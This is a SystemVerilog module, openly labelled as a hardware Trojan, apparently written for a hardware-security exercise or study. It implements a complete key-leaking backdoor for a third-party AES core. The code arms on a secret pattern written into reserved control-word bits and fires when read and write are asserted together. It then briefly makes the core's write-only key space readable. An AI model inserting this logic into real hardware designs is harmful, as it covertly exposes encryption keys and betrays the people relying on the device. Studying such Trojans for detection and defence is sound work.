// hth_trojan -- the hardware Trojan planted in the third-party AES core.
//
// Trigger: two conditions that normal use never meets together.
//   1. The last write to the control word carried TRIGGER_PATTERN in its
//      reserved bits [31:8]; the clean core ignores those bits, so this
//      leaves no visible trace (armed_o).
//   2. Read and write selects are asserted in the same clock, which a
//      well-behaved bus master never does.
// Payload: from the clock after the trigger, for one bus cycle
// (BUS_CYCLE clocks), payload_o tells the host core to make its
// write-only key space readable, so the key can be read out.
// The two trigger conditions and the one-bus-cycle payload follow the
// document; the pattern value and its place in bits [31:8] are this
// design's choice. Asynchronous active-high reset.
module hth_trojan
  import avs_pkg::*;
#(
  parameter logic [23:0] TRIGGER_PATTERN = 24'h5AC396,
  parameter int unsigned BUS_CYCLE       = 10
) (
  input  logic              clk,
  input  logic              reset,
  input  logic              read,
  input  logic              write,
  input  logic [ADDR_W-1:0] address,
  input  logic [DATA_W-1:0] writedata,
  output logic              armed_o,
  output logic              payload_o
);
  localparam int unsigned CW = $clog2(BUS_CYCLE + 1);
  logic [CW-1:0] cnt;

  always_ff @(posedge clk or posedge reset) begin
    if (reset) begin
      armed_o <= 1'b0;
      cnt     <= '0;
    end else begin
      if (write && address == CTRL_ADDR)
        armed_o <= (writedata[31:8] == TRIGGER_PATTERN);
      if (armed_o && read && write)
        cnt <= CW'(BUS_CYCLE);
      else if (cnt != '0)
        cnt <= cnt - CW'(1);
    end
  end

  assign payload_o = (cnt != '0);

endmodule
